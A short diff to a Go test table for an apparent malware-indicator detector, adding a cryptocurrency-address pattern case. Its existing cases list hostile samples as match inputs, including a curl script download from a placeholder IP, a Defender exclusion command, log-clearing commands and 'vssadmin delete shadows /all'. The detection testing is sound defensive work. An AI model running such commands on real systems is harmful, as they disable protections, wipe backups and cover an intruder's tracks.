@@ -52,6 +52,7 @@ var cases = []struct {
 	{"program-url", []string{"https://h.invalid/a/x.exe", "curl http://192.0.2.1/x.sh -o y", "http://h.invalid/x.ps1?y=1"}, []string{"https://get.sh", "x.exe", "https://h.invalid/x.shtml", "https://h.invalid/x.exes"}},
 	{"program-path", []string{"/tmp/.x/run.sh", `%TEMP%\a.exe`}, []string{"/tmp/", "/tmp/data.json", "x.exe", "/tmp/.sh"}},
 	{"defender", []string{"Add-MpPreference -ExclusionPath C:"}, []string{"defender"}},
+	{"coin-address", []string{"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$", "^0x[a-fA-F0-9]{40}$", "bc1qinertinertinertinertinertinertq9q9"}, []string{"[a-z0-9]{40}", "0x1234", "abc1", "[A-Z]{2}"}},
 	{"sandbox-word", []string{"VBoxService.exe", "x64dbg"}, []string{"virtual", "debugger"}},
 	{"log-clear", []string{"history -c", "wevtutil cl System"}, []string{"history", "historic"}},
 	{"ransom-word", []string{"YOUR FILES HAVE BEEN ENCRYPTED", "vssadmin delete shadows /all"}, []string{"encrypted", "ransom"}},
